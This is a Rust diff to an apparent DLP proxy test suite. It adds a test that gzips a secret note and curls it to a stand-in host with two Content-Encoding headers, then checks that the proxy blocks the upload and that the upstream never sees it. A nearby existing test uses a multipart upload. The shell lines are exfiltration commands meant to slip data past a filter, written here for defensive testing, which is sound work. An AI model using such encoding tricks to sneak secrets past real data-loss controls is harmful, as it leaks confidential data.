@@ -123,6 +123,10 @@ pub fn register(reg: &mut Registry) {
         "dlp_finds_an_own_value_in_gzip_and_multipart",
         dlp_gzip_multipart,
     );
+    add(
+        "dlp_finds_an_own_value_behind_a_second_content_encoding_line",
+        dlp_second_coding_line,
+    );
 }
 
 /// The stand-in world, shared by the targets.
@@ -857,6 +861,19 @@ fn dlp_gzip_multipart(e: &Engine) -> Outcome {
     let (_, out) = u.b.sh(&format!(
         "printf '%s' '{}' > /tmp/mp.txt; curl -sS --max-time 20 -F 'file=@/tmp/mp.txt' https://{HOST}/repos/acme/mp-{m} 2>&1",
         u.note
+    ));
+    has(&out, "dlp_blocked")?;
+    ensure(u.seen_with(&m).is_empty(), || "the upstream got it".into())
+}
+
+/// `Content-Encoding: identity` then `Content-Encoding: gzip`: the upstream
+/// decodes the list; the proxy must scan what it decodes to.
+fn dlp_second_coding_line(e: &Engine) -> Outcome {
+    let u = up(e);
+    let m = marker();
+    let (_, out) = u.b.sh(&format!(
+        "printf '%s' '{note}' | gzip | curl -sS --max-time 20 -X POST -H 'Content-Encoding: identity' -H 'Content-Encoding: gzip' --data-binary @- https://{HOST}/repos/acme/ce2-{m} 2>&1",
+        note = u.note
     ));
     has(&out, "dlp_blocked")?;
     ensure(u.seen_with(&m).is_empty(), || "the upstream got it".into())
